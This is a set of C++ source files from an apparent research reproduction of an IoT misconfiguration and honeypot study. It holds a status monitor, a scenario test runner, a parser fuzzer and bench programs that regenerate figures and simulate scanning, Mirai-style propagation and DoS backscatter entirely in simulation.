  std::printf("rate   %.1f hosts/s  %.1f packets/s",
              static_cast<double>(view.hosts_per_sec_milli) / 1000.0,
              static_cast<double>(view.packets_per_sec_milli) / 1000.0);
  if (view.eta_ms != ~std::uint64_t{0}) {
    std::printf("  eta %.0fs", static_cast<double>(view.eta_ms) / 1000.0);
  }
  std::printf("\n\nsweeps %s/%s\n", humanize(view.sweep_done).c_str(),
              humanize(view.sweep_total).c_str());
  for (const auto& sweep : view.sweeps) {
    std::printf("  %-8s %s %s/%s\n", sweep.name.c_str(),
                bar(sweep.done, sweep.total, 30).c_str(),
                humanize(sweep.done).c_str(), humanize(sweep.total).c_str());
  }
  std::printf("\nevents %llu:",
              static_cast<unsigned long long>(view.events_published));
  for (std::size_t i = 0; i < view.kind_counts.size(); ++i) {
    std::printf(" %s=%llu",
                std::string(ofh::obs::progress_kind_name(
                                static_cast<ofh::obs::ProgressKind>(i)))
                    .c_str(),
                static_cast<unsigned long long>(view.kind_counts[i]));
  }
  std::printf("\ntrace  recorded=%s dropped=%s\n",
              humanize(view.trace_recorded).c_str(),
              humanize(view.trace_dropped).c_str());
  std::fflush(stdout);
}

void usage() {
  std::fprintf(stderr,
               "usage: ofh-top (--unix PATH | --port N [--host H]) "
               "[--once] [--raw] [--interval-ms N]\n");
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto value = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : "";
    };
    if (arg == "--unix") {
      options.unix_path = value();
    } else if (arg == "--host") {
      options.host = value();
    } else if (arg == "--port") {
      options.port = std::atoi(value());
    } else if (arg == "--once") {
      options.once = true;
    } else if (arg == "--raw") {
      options.raw = true;
    } else if (arg == "--interval-ms") {
      options.interval_ms = std::max(50, std::atoi(value()));
    } else {
      usage();
      return 1;
    }
  }
  if (options.unix_path.empty() && options.port == 0) {
    usage();
    return 1;
  }

  bool first = true;
  for (;;) {
    const int fd = connect_to(options);
    if (fd < 0) {
      if (first) {
        std::fprintf(stderr, "ofh-top: cannot connect\n");
        return 1;
      }
      std::printf("ofh-top: server gone, exiting\n");
      return 0;
    }
    const auto body = request(fd, StatusRequest::kStatus);
    ::close(fd);
    if (!body) {
      if (first) return 1;
      std::printf("ofh-top: server gone, exiting\n");
      return 0;
    }
    const auto view = parse_status(*body);
    if (!view) return first ? 1 : 0;
    if (options.raw) {
      print_raw(*view);
    } else {
      print_screen(*view, /*clear=*/!options.once);
    }
    if (options.once) return 0;
    first = false;
    std::this_thread::sleep_for(
        std::chrono::milliseconds(options.interval_ms));
  }
}
