// scenario_runner: executes .ofh scenario files (core/scenario.h) and
// reports pass/fail. Every tests/scenarios/*.ofh file is registered as an
// individual CTest case (label `scenario`) invoking this binary.
//
//   scenario_runner <file.ofh>...        run, match expectations, exit 1 on
//                                        any parse error / divergence / miss
//   scenario_runner --list [files...]    no files: print accepted report
//                                        names; with files: parse-only
//                                        inventory (title, reports, counts)
//   scenario_runner --show <file.ofh>    run and dump the rendered reports
//                                        (authoring aid; expectations still
//                                        checked)
//   scenario_runner --update <file.ofh>  run, then rewrite stale '#' lines
//                                        in place: a failing expectation is
//                                        re-anchored onto the drifted report
//                                        line via its literal prefix and
//                                        replaced with an exact-match escape.
//                                        Unresolvable expectations are kept
//                                        and exit nonzero (scripts/
//                                        update_goldens.sh runs this over
//                                        the corpus).
//   --threads=a,b,c                      override the {1,2,8} byte-identity
//                                        sweep (the fuzzer uses --threads=1)
#include <algorithm>
#include <cstdio>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "core/scan_shard.h"
#include "core/scenario.h"
#include "dist/coordinator.h"

// Fork-based worker processes don't mix with ThreadSanitizer (fork from an
// instrumented process wedges the child's runtime); under TSan the runner
// installs no dispatcher and scan-workers scenarios take the graceful
// in-process degradation path — byte-identical by contract.
#if defined(__SANITIZE_THREAD__)
#define OFH_RUNNER_NO_FORK 1
#elif defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define OFH_RUNNER_NO_FORK 1
#endif
#endif

namespace {

// Backend for `scan-workers N`: a fresh coordinator per scan batch, N
// workers forked over socketpairs, jobs dispatched with the full crash
// recovery machinery, results merged byte-identically (dist/coordinator.h).
void install_fork_dispatcher() {
#ifndef OFH_RUNNER_NO_FORK
  ofh::core::set_scan_shard_dispatcher(
      [](const ofh::core::StudyConfig& config,
         const std::vector<ofh::core::ScanShardJob>& jobs,
         const ofh::core::ScanShardProgressSink& sink)
          -> std::optional<std::vector<ofh::core::ScanShardResult>> {
        ofh::dist::CoordinatorOptions options;
        // Workers beyond the job count would sit idle; 16 keeps a hostile
        // scan-workers value from fork-bombing the runner.
        options.fork_workers = std::min<unsigned>(
            {config.scan_workers, static_cast<unsigned>(jobs.size()), 16u});
        options.wait_workers = options.fork_workers;
        ofh::dist::Coordinator coordinator(std::move(options));
        if (!coordinator.start()) return std::nullopt;  // degrade in-process
        auto results = coordinator.run(config, jobs, sink);
        coordinator.shutdown();
        return results;
      });
#endif
}

using ofh::core::Scenario;
using ofh::core::ScenarioError;
using ofh::core::ScenarioRunOptions;

std::vector<unsigned> parse_threads(const std::string& spec) {
  std::vector<unsigned> sweep;
  std::stringstream stream(spec);
  std::string item;
  while (std::getline(stream, item, ',')) {
    const long value = std::strtol(item.c_str(), nullptr, 10);
    if (value >= 0 && value <= 1024) {
      sweep.push_back(static_cast<unsigned>(value));
    }
  }
  return sweep;
}

int list_mode(const std::vector<std::string>& files) {
  if (files.empty()) {
    std::printf("report names accepted by `report <name>`:\n");
    for (const auto& name : ofh::core::scenario_report_names()) {
      std::printf("  %s\n", name.c_str());
    }
    return 0;
  }
  int failures = 0;
  for (const auto& file : files) {
    ScenarioError error;
    const auto scenario = ofh::core::parse_scenario_file(file, &error);
    if (!scenario) {
      std::printf("%s: PARSE ERROR: %s\n", file.c_str(),
                  error.to_string().c_str());
      ++failures;
      continue;
    }
    std::size_t expectations = 0;
    for (const auto& report : scenario->reports) {
      expectations += report.expectations.size();
    }
    std::printf("%s: \"%s\" seed=%llu reports=%zu expectations=%zu\n",
                file.c_str(), scenario->title.c_str(),
                static_cast<unsigned long long>(scenario->config.seed),
                scenario->reports.size(), expectations);
    for (const auto& report : scenario->reports) {
      std::printf("  report %s (%zu expectations)\n", report.name.c_str(),
                  report.expectations.size());
    }
  }
  return failures == 0 ? 0 : 1;
}

// --update: rewrite stale '#' lines in place. Returns the number of
// expectations that could not be re-anchored (kept verbatim).
int update_file(const std::string& file, const Scenario& scenario,
                const ScenarioRunOptions& options) {
  ScenarioRunOptions render = options;
  render.check_expectations = false;
  const auto result = ofh::core::run_scenario(scenario, render);
  for (const auto& failure : result.failures) {
    // Cross-thread divergence is a bug, not a stale golden; never "update"
    // over it.
    std::printf("%s\n", failure.c_str());
  }
  if (!result.failures.empty()) return 1;

  // expectation source line (1-based) -> replacement pattern
  std::map<int, std::string> replacements;
  int unresolved = 0;
  for (std::size_t i = 0; i < scenario.reports.size(); ++i) {
    const auto& block = scenario.reports[i];
    const std::string& text = result.reports[i].text;
    std::vector<std::string> lines;
    {
      std::stringstream stream(text);
      std::string line;
      while (std::getline(stream, line)) lines.push_back(line);
    }
    std::size_t pos = 0;
    for (const auto& expectation : block.expectations) {
      // Still matching? Keep the hand-written pattern.
      std::size_t found = lines.size();
      for (std::size_t j = pos; j < lines.size(); ++j) {
        try {
          if (std::regex_search(lines[j], expectation.regex)) {
            found = j;
            break;
          }
        } catch (const std::regex_error&) {
          break;
        }
      }
      if (found != lines.size()) {
        pos = found + 1;
        continue;
      }
      // Stale: re-anchor on the drifted line via the literal prefix. The
      // prefix usually contains the stale payload itself ("devices=879" when
      // the report now says 881), so shorten it progressively; 4 chars is
      // the floor below which an anchor is more likely noise than signal.
      const std::string prefix =
          ofh::core::expectation_literal_prefix(expectation.pattern);
      std::size_t anchor = lines.size();
      for (std::size_t len = prefix.size();
           len >= 4 && anchor == lines.size(); --len) {
        const std::string_view needle(prefix.data(), len);
        for (std::size_t j = pos; j < lines.size(); ++j) {
          if (lines[j].find(needle) != std::string::npos) {
            anchor = j;
            break;
          }
        }
      }
      if (anchor == lines.size()) {
        std::printf(
            "%s:%d: cannot re-anchor /%s/ in report '%s' (no line carries "
            "its literal prefix); left unchanged\n",
            file.c_str(), expectation.line, expectation.pattern.c_str(),
            block.name.c_str());
        ++unresolved;
        continue;
      }
      replacements[expectation.line] =
          ofh::core::escape_expectation(lines[anchor]);
      pos = anchor + 1;
    }
  }

  if (!replacements.empty()) {
    std::ifstream in(file, std::ios::binary);
    std::vector<std::string> source;
    std::string line;
    while (std::getline(in, line)) source.push_back(line);
    in.close();
    for (const auto& [line_number, pattern] : replacements) {
      if (line_number >= 1 &&
          line_number <= static_cast<int>(source.size())) {
        source[static_cast<std::size_t>(line_number - 1)] = "#" + pattern;
      }
    }
    std::ofstream out(file, std::ios::binary | std::ios::trunc);
    for (const auto& updated : source) out << updated << '\n';
    std::printf("%s: rewrote %zu expectation(s)\n", file.c_str(),
                replacements.size());
  }
  return unresolved == 0 ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  bool list = false;
  bool show = false;
  bool update = false;
  ScenarioRunOptions options;
  std::vector<std::string> files;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--list") {
      list = true;
    } else if (arg == "--show") {
      show = true;
    } else if (arg == "--update") {
      update = true;
    } else if (arg.rfind("--threads=", 0) == 0) {
      const auto sweep = parse_threads(arg.substr(10));
      if (!sweep.empty()) options.thread_sweep = sweep;
    } else if (arg == "--help" || arg == "-h") {
      std::printf(
          "usage: scenario_runner [--list|--show|--update] "
          "[--threads=a,b,c] <file.ofh>...\n");
      return 0;
    } else {
      files.push_back(arg);
    }
  }

  if (list) return list_mode(files);
  if (files.empty()) {
    std::fprintf(stderr, "scenario_runner: no scenario files given\n");
    return 2;
  }
  install_fork_dispatcher();

  int failed = 0;
  for (const auto& file : files) {
    ScenarioError error;
    const auto scenario = ofh::core::parse_scenario_file(file, &error);
    if (!scenario) {
      std::printf("%s\n", error.to_string().c_str());
      ++failed;
      continue;
    }
    if (update) {
      failed += update_file(file, *scenario, options) != 0 ? 1 : 0;
      continue;
    }
    const auto result = ofh::core::run_scenario(*scenario, options);
    if (show) {
      for (const auto& report : result.reports) {
        std::printf("==== report %s ====\n%s", report.name.c_str(),
                    report.text.c_str());
        if (!report.text.empty() && report.text.back() != '\n') {
          std::printf("\n");
        }
      }
    }
    for (const auto& failure : result.failures) {
      std::printf("%s\n", failure.c_str());
    }
    if (result.passed) {
      std::printf("%s: PASS (\"%s\", %zu report(s), threads",
                  file.c_str(), scenario->title.c_str(),
                  result.reports.size());
      for (std::size_t i = 0; i < options.thread_sweep.size(); ++i) {
        std::printf("%s%u", i == 0 ? " " : "/", options.thread_sweep[i]);
      }
      std::printf(")\n");
    } else {
      std::printf("%s: FAIL (%zu failure(s))\n", file.c_str(),
                  result.failures.size());
      ++failed;
    }
  }
  return failed == 0 ? 0 : 1;
}
