// scenario_fuzz: seeded mutation fuzzer for the scenario parser + runner.
// Loads the checked-in corpus, corrupts it (truncation, token splices,
// numeric extremes, line shuffles, byte flips) and feeds the result through
// parse_scenario_text; every Nth successfully-parsed mutant also runs the
// full study pipeline at a clamped micro scale. Built and run under
// ASan+UBSan in ci.sh (500 iterations, fixed seed): the parser must reject
// hostile input with a typed ScenarioError — an escaping exception, a
// sanitizer report, or a partially-applied config is a bug and exits 1.
//
// Determinism: all randomness is splitmix64 seeded from --seed; no
// wall-clock anywhere, so a failing iteration number reproduces exactly:
//   scenario_fuzz --seed=7 --iterations=500 --only=233 --dump corpus/*.ofh
#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/scenario.h"

namespace {

// Local splitmix64 so the fuzzer has zero coupling to library RNG changes.
std::uint64_t splitmix64(std::uint64_t& state) {
  state += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

std::uint64_t below(std::uint64_t& state, std::uint64_t bound) {
  return bound == 0 ? 0 : splitmix64(state) % bound;
}

// Splice dictionary: valid directive heads, report names, boundary numbers
// and syntactic debris — tokens that push the parser into its rare paths.
const char* const kTokens[] = {
    "scenario", "seed", "scale", "attack-scale", "duration-days",
    "scan-threads", "scan-batch", "scan-attempts", "session-attempts",
    "filter-honeypots", "listing-boost", "telescope-range",
    "telescope-rate-scale", "telescope-source-scale", "fault-budget",
    "roster", "fault", "report", "on", "off", "uniform-loss", "burst",
    "chaos", "flap", "partition", "spike", "refusal", "crash", "reorder",
    "duplicate", "infected", "external", "dos", "multistage", "background",
    "scan-services", "table4", "summary", "degradation",
    "degradation-vs-baseline", "10.0.0.0/8", "44.0.0.0/8", "0.0.0.0/0",
    "300.1.2.3/8", "10.0.0.0/33", "#", "//", "(", "[", "\\",
};
const char* const kNumbers[] = {
    "0", "-1", "1", "1e308", "-1e308", "nan", "inf", "1/0", "0/0",
    "999999999999999999999", "18446744073709551616", "1e-320", "0.0/0.0",
    "1/8192", "366", "367", "4294967296", "-0.5", "1.0000000001",
};

std::string mutate(std::string input, std::uint64_t& state) {
  const int rounds = 1 + static_cast<int>(below(state, 4));
  for (int round = 0; round < rounds; ++round) {
    if (input.empty()) {
      input = kTokens[below(state, std::size(kTokens))];
      continue;
    }
    switch (below(state, 5)) {
      case 0: {  // truncation
        input.resize(below(state, input.size() + 1));
        break;
      }
      case 1: {  // token splice at a random offset
        const char* token =
            below(state, 3) == 0
                ? kNumbers[below(state, std::size(kNumbers))]
                : kTokens[below(state, std::size(kTokens))];
        const std::size_t at = below(state, input.size() + 1);
        input.insert(at, std::string(" ") + token + " ");
        break;
      }
      case 2: {  // numeric extreme: replace a digit run
        std::size_t start = below(state, input.size());
        while (start < input.size() &&
               (input[start] < '0' || input[start] > '9')) {
          ++start;
        }
        if (start < input.size()) {
          std::size_t end = start;
          while (end < input.size() && input[end] >= '0' &&
                 input[end] <= '9') {
            ++end;
          }
          input.replace(start, end - start,
                        kNumbers[below(state, std::size(kNumbers))]);
        }
        break;
      }
      case 3: {  // directive shuffle: swap two whole lines
        std::vector<std::string> lines;
        std::stringstream stream(input);
        std::string line;
        while (std::getline(stream, line)) lines.push_back(line);
        if (lines.size() >= 2) {
          const std::size_t a = below(state, lines.size());
          const std::size_t b = below(state, lines.size());
          std::swap(lines[a], lines[b]);
          input.clear();
          for (const auto& swapped : lines) input += swapped + "\n";
        }
        break;
      }
      default: {  // byte flip
        input[below(state, input.size())] =
            static_cast<char>(below(state, 256));
        break;
      }
    }
  }
  return input;
}

}  // namespace

int main(int argc, char** argv) {
  std::uint64_t seed = 1;
  int iterations = 500;
  int run_every = 25;  // full-pipeline run on every Nth successful parse
  long only = -1;      // reproduce a single iteration
  bool dump = false;
  std::vector<std::string> files;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg.rfind("--seed=", 0) == 0) {
      seed = std::strtoull(arg.c_str() + 7, nullptr, 10);
    } else if (arg.rfind("--iterations=", 0) == 0) {
      iterations = static_cast<int>(std::strtol(arg.c_str() + 13,
                                                nullptr, 10));
    } else if (arg.rfind("--run-every=", 0) == 0) {
      run_every = static_cast<int>(std::strtol(arg.c_str() + 12,
                                               nullptr, 10));
    } else if (arg.rfind("--only=", 0) == 0) {
      only = std::strtol(arg.c_str() + 7, nullptr, 10);
    } else if (arg == "--dump") {
      dump = true;
    } else if (arg == "--help" || arg == "-h") {
      std::printf(
          "usage: scenario_fuzz [--seed=N] [--iterations=N] "
          "[--run-every=N] [--only=ITER] [--dump] <corpus.ofh>...\n");
      return 0;
    } else {
      files.push_back(arg);
    }
  }
  if (files.empty()) {
    std::fprintf(stderr, "scenario_fuzz: no corpus files given\n");
    return 2;
  }

  std::vector<std::string> corpus;
  for (const auto& file : files) {
    std::ifstream in(file, std::ios::binary);
    if (!in.good()) {
      std::fprintf(stderr, "scenario_fuzz: cannot read %s\n", file.c_str());
      return 2;
    }
    std::stringstream buffer;
    buffer << in.rdbuf();
    corpus.push_back(buffer.str());
  }

  int parsed = 0;
  int rejected = 0;
  int pipeline_runs = 0;
  for (int iteration = 0; iteration < iterations; ++iteration) {
    // Per-iteration state derived from (seed, iteration) so --only=N
    // reproduces iteration N without replaying 0..N-1.
    std::uint64_t state = seed * 0x9e3779b97f4a7c15ULL +
                          static_cast<std::uint64_t>(iteration);
    const std::string& base = corpus[below(state, corpus.size())];
    const std::string mutant = mutate(base, state);
    if (only >= 0 && iteration != only) continue;
    if (dump) {
      std::printf("---- iteration %d (%zu bytes) ----\n", iteration,
                  mutant.size());
      // fwrite, not printf: mutants legitimately contain NUL bytes.
      std::fwrite(mutant.data(), 1, mutant.size(), stdout);
      std::printf("\n");
      std::fflush(stdout);
    }

    ofh::core::ScenarioError error;
    const auto scenario =
        ofh::core::parse_scenario_text(mutant, "<fuzz>", &error);
    if (!scenario) {
      // The contract under test: rejection is typed, never an exception.
      if (error.message.empty()) {
        std::fprintf(stderr,
                     "iteration %d: parse failed without a message\n",
                     iteration);
        return 1;
      }
      ++rejected;
      continue;
    }
    ++parsed;

    if (run_every <= 0 || parsed % run_every != 0) continue;
    // A parsed mutant is a *valid* config by construction (the parser
    // re-validates after every directive); clamp the cost knobs so a legal
    // but expensive scenario (scale 1, 30 days) stays micro-sized, then
    // prove the runner survives it.
    ofh::core::Scenario trimmed = *scenario;
    auto& config = trimmed.config;
    config.population_scale =
        std::min(config.population_scale, 1.0 / 131'072);
    config.attack_scale = std::min(config.attack_scale, 1.0 / 512);
    config.attack_duration =
        std::min(config.attack_duration, ofh::sim::days(1));
    config.scan_threads = 1;
    config.scan_attempts = std::min<std::uint32_t>(config.scan_attempts, 4);
    config.session_connect_attempts =
        std::min(config.session_connect_attempts, 2);
    config.telescope_rate_scale =
        std::min(config.telescope_rate_scale, 1.0 / 4'000'000);
    config.telescope_source_scale =
        std::min(config.telescope_source_scale, 1.0 / 40'000);
    trimmed.chaos_end_days = std::min(trimmed.chaos_end_days, 2.0);
    trimmed.wants_baseline = false;  // one study per mutant, not two

    ofh::core::ScenarioRunOptions options;
    options.thread_sweep = {1};
    // Expectation regexes came out of the mutator: matching them risks
    // catastrophic backtracking (a hang, not UB), so the fuzz run only
    // exercises parse + pipeline + report rendering.
    options.check_expectations = false;
    const auto result = ofh::core::run_scenario(trimmed, options);
    (void)result;  // failures are fine; crashes/sanitizer reports are not
    ++pipeline_runs;
  }

  std::printf(
      "scenario_fuzz: %d iterations, %d parsed, %d rejected, "
      "%d pipeline runs, 0 crashes\n",
      iterations, parsed, rejected, pipeline_runs);
  return 0;
}
