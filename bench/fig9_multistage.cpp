// Regenerates Figure 9: multistage attacks detected on the honeypots.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 9 (multistage attacks)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig9_multistage(study).c_str(), stdout);
  return 0;
}
