// Extension: Mirai-style self-propagation over the misconfigured
// population. Not a table in the paper, but its central warning (§6):
// "many of the misconfigured devices take themselves the role of the
// attacker as part of malware propagation campaigns". The epidemic runs
// over the real Telnet engines (brute force with Table 12 credentials) and
// prints the infection growth curve.
#include "bench_common.h"

#include "attackers/malware.h"
#include "attackers/propagation.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Extension (Mirai propagation dynamics)");

  ofh::sim::Simulation sim;
  ofh::net::Fabric fabric(sim, config.seed);
  fabric.set_latency(ofh::sim::msec(15), ofh::sim::msec(25));

  ofh::devices::PopulationSpec pop_spec;
  pop_spec.seed = config.seed;
  pop_spec.scale = config.population_scale;
  ofh::devices::Population population(pop_spec);
  population.build();
  population.attach_all(fabric);

  ofh::attackers::MalwareCorpus corpus(config.seed, 0.05);
  ofh::attackers::PropagationConfig epidemic_config;
  epidemic_config.seed = config.seed;
  epidemic_config.duration = ofh::sim::days(14);
  epidemic_config.initial_bots = 3;
  epidemic_config.attempts_per_bot_per_hour = 10.0;
  ofh::attackers::Epidemic epidemic(epidemic_config, population, corpus);
  epidemic.deploy(fabric);

  std::printf("\npopulation: %llu devices, %zu susceptible to Telnet "
              "compromise (no-auth or default credentials)\n",
              static_cast<unsigned long long>(population.total_devices()),
              epidemic.susceptible_count());

  // Run day by day, printing the growth curve.
  std::printf("\n%-6s %-10s %s\n", "day", "infected", "growth");
  std::size_t previous = 0;
  for (int day = 1; day <= 14; ++day) {
    sim.run_until(ofh::sim::days(static_cast<std::uint64_t>(day)));
    const auto infected = epidemic.infected_count();
    // Bars scaled to the susceptible population (max 56 columns).
    std::string bar(
        static_cast<std::size_t>(
            56.0 * infected /
            std::max<std::size_t>(1, epidemic.susceptible_count())),
        '#');
    std::printf("d%02d    %-10zu %s (+%zu)\n", day, infected, bar.c_str(),
                infected - previous);
    previous = infected;
  }
  std::printf("\n%llu brute-force attempts; %.1f%% of susceptible devices "
              "compromised in 14 days\n",
              static_cast<unsigned long long>(epidemic.attempts()),
              100.0 * static_cast<double>(epidemic.infected_count()) /
                  static_cast<double>(epidemic.susceptible_count()));
  return 0;
}
