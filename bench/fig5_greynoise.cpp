// Regenerates Figure 5: our scanning-service classification vs GreyNoise.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 5 (GreyNoise cross-validation)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig5_greynoise(study).c_str(), stdout);
  return 0;
}
