// Regenerates Figure 4: attack types in different honeypots.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 4 (attack types per honeypot)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig4_attack_types(study).c_str(), stdout);
  return 0;
}
