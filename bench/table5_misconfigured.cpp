// Regenerates Table 5: misconfigured devices per protocol/vulnerability.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 5 (misconfigured devices)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();
  std::fputs(ofh::core::report_table5_misconfigured(study).c_str(), stdout);
  std::printf("\nGround truth misconfigured devices planted: %llu\n",
              static_cast<unsigned long long>(
                  study.population().misconfigured_count()));
  return 0;
}
