// Regenerates Table 10: misconfigured devices by country.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 10 (misconfigured by country)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();
  std::fputs(ofh::core::report_table10_countries(study).c_str(), stdout);
  return 0;
}
