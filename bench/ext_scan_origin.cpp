// Extension/ablation: scan-origin effects. Some networks firewall the IP
// ranges of well-known scanning services; the paper ran its own scans from
// a university host for exactly this reason (Appendix A.3), citing Wan et
// al.'s "On the Origin of Scanning". Here a share of devices blocklists the
// known-scanner range; the same sweep is then run from a known-scanner
// vantage and from a fresh university address, and the coverage gap is
// measured.
#include "bench_common.h"

#include "scanner/scanner.h"

namespace {

std::uint64_t sweep_from(ofh::core::Study& study, ofh::util::Ipv4Addr origin,
                         ofh::proto::Protocol protocol) {
  ofh::scanner::ScanDb db;
  ofh::scanner::Scanner scanner(origin, db);
  scanner.attach(study.fabric());
  ofh::scanner::ScanConfig config;
  config.protocol = protocol;
  config.targets = study.population().prefixes();
  config.seed = 7;
  config.batch_size = 4'096;
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && study.sim().step()) {
  }
  scanner.detach();
  return db.unique_hosts(protocol);
}

}  // namespace

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Extension (scan-origin blocking)");

  ofh::core::Study study(config);
  study.setup_internet();

  // A quarter of devices firewall the known commercial-scanner range
  // (198.108.0.0/16 here), as real networks blocklist Shodan/Censys.
  const auto scanner_range = *ofh::util::Cidr::parse("198.108.0.0/16");
  std::size_t firewalled = 0;
  auto& population = study.population();
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (population.address_at(i).value() % 4 == 0) {
      // Ingress filters live on real hosts, so the firewalled quarter of
      // the population materializes up front (as the eager world had it).
      population.device_at(i)->set_ingress_filter(
          [scanner_range](const ofh::net::Packet& packet) {
            return !scanner_range.contains(packet.src);
          });
      ++firewalled;
    }
  }
  std::printf("\n%zu of %llu devices firewall the known-scanner range %s\n",
              firewalled,
              static_cast<unsigned long long>(
                  study.population().total_devices()),
              scanner_range.to_string().c_str());

  std::printf("\n%-9s %-22s %-22s %s\n", "protocol", "from known scanner",
              "from university host", "coverage gap");
  for (const auto protocol : ofh::proto::scanned_protocols()) {
    const auto from_commercial = sweep_from(
        study, ofh::util::Ipv4Addr(198, 108, 66, 10), protocol);
    const auto from_university = sweep_from(
        study, ofh::util::Ipv4Addr(192, 35, 168, 10), protocol);
    const double gap =
        from_university == 0
            ? 0.0
            : 100.0 * (1.0 - static_cast<double>(from_commercial) /
                                 static_cast<double>(from_university));
    std::printf("%-9s %-22llu %-22llu %.1f%%\n",
                std::string(ofh::proto::protocol_name(protocol)).c_str(),
                static_cast<unsigned long long>(from_commercial),
                static_cast<unsigned long long>(from_university), gap);
  }
  std::printf(
      "\nThe fresh-origin scan sees every firewalled device that the\n"
      "commercial-scanner vantage misses — the paper's rationale for\n"
      "running its own ZMap scans and treating Shodan/Sonar as lower\n"
      "bounds (Table 4).\n");
  return 0;
}
