// Regenerates Table 4: exposed systems on the Internet by protocol, as seen
// by our ZMap-style scan vs the Project Sonar and Shodan snapshots.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 4 (exposed systems by source)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();
  study.run_datasets();
  std::fputs(ofh::core::report_table4_exposed(study).c_str(), stdout);

  // Appendix Table 9: scan start day per protocol (the paper spread its
  // six sweeps across one week).
  std::printf("\nScan schedule (Appendix Table 9 shape):\n");
  for (const auto& [protocol, when] : study.scan_dates()) {
    std::printf("  %-7s started %s\n",
                std::string(ofh::proto::protocol_name(protocol)).c_str(),
                ofh::sim::format_time(when).substr(0, 9).c_str());
  }
  return 0;
}
