// Ablation: the impact of being listed by public scanning services (§5.2,
// Figure 8). Runs the attack month with the post-listing boost disabled
// (1.0) and enabled (paper-style uptrend), comparing first-half vs
// second-half attack volume.
#include "bench_common.h"

namespace {

std::pair<std::uint64_t, std::uint64_t> halves(
    const ofh::honeynet::EventLog& log, ofh::sim::Duration duration) {
  std::uint64_t first = 0, second = 0;
  for (const auto& event : log.events()) {
    (event.when < duration / 2 ? first : second) += 1;
  }
  return {first, second};
}

}  // namespace

int main(int argc, char** argv) {
  auto base_config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(base_config, "Ablation (scanning-service listing)");

  for (const double boost : {1.0, 1.6, 2.5}) {
    auto config = base_config;
    config.listing_boost = boost;
    ofh::core::Study study(config);
    study.setup_internet();
    study.run_attack_month();
    const auto [first, second] =
        halves(study.attack_log(), study.config().attack_duration);
    std::printf(
        "listing boost %.1f: first half %6llu events, second half %6llu "
        "events (ratio %.2f)\n",
        boost, static_cast<unsigned long long>(first),
        static_cast<unsigned long long>(second),
        first == 0 ? 0.0 : static_cast<double>(second) / first);
  }
  std::printf(
      "\nThe paper observed an upward attack trend after the honeypots were\n"
      "listed on Shodan/BinaryEdge/ZoomEye (Figure 8); boost 1.0 removes\n"
      "the effect, larger boosts steepen it.\n");
  return 0;
}
