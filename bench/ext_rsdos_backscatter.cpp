// Extension: RSDoS backscatter reconstruction — the CAIDA telescope's third
// data product ("Aggregated Daily RSDoS Attack Metadata", paper §3.4).
// Randomly-spoofed SYN floods against devices elsewhere on the Internet
// produce SYN-ACK/RST backscatter; the slice hitting the /8 darknet lets
// the detector reconstruct victim, duration and estimated magnitude.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Extension (RSDoS backscatter)");

  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();

  const auto attacks = study.rsdos().attacks();
  std::printf("\nbackscatter packets at the telescope: %llu\n",
              static_cast<unsigned long long>(
                  study.rsdos().backscatter_packets()));
  std::printf("reconstructed RSDoS attacks: %zu\n\n", attacks.size());
  std::printf("%-16s %-22s %-10s %-9s %s\n", "victim", "window", "observed",
              "targets", "estimated attack size");
  for (const auto& attack : attacks) {
    std::printf("%-16s %s .. %s %-10llu %-9u ~%.0f packets\n",
                attack.victim.to_string().c_str(),
                ofh::sim::format_time(attack.first_seen).substr(0, 9).c_str(),
                ofh::sim::format_time(attack.last_seen).substr(0, 9).c_str(),
                static_cast<unsigned long long>(attack.packets),
                attack.distinct_darknet_targets,
                attack.estimated_attack_packets(
                    study.config().telescope_range));
  }
  std::printf(
      "\n(a /8 darknet sees 1/256 of randomly spoofed space, so estimated\n"
      " sizes are observed x256 — the CAIDA metadata methodology)\n");
  return 0;
}
