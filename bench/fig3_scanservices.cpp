// Regenerates Figure 3: scanning-service traffic on honeypots.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
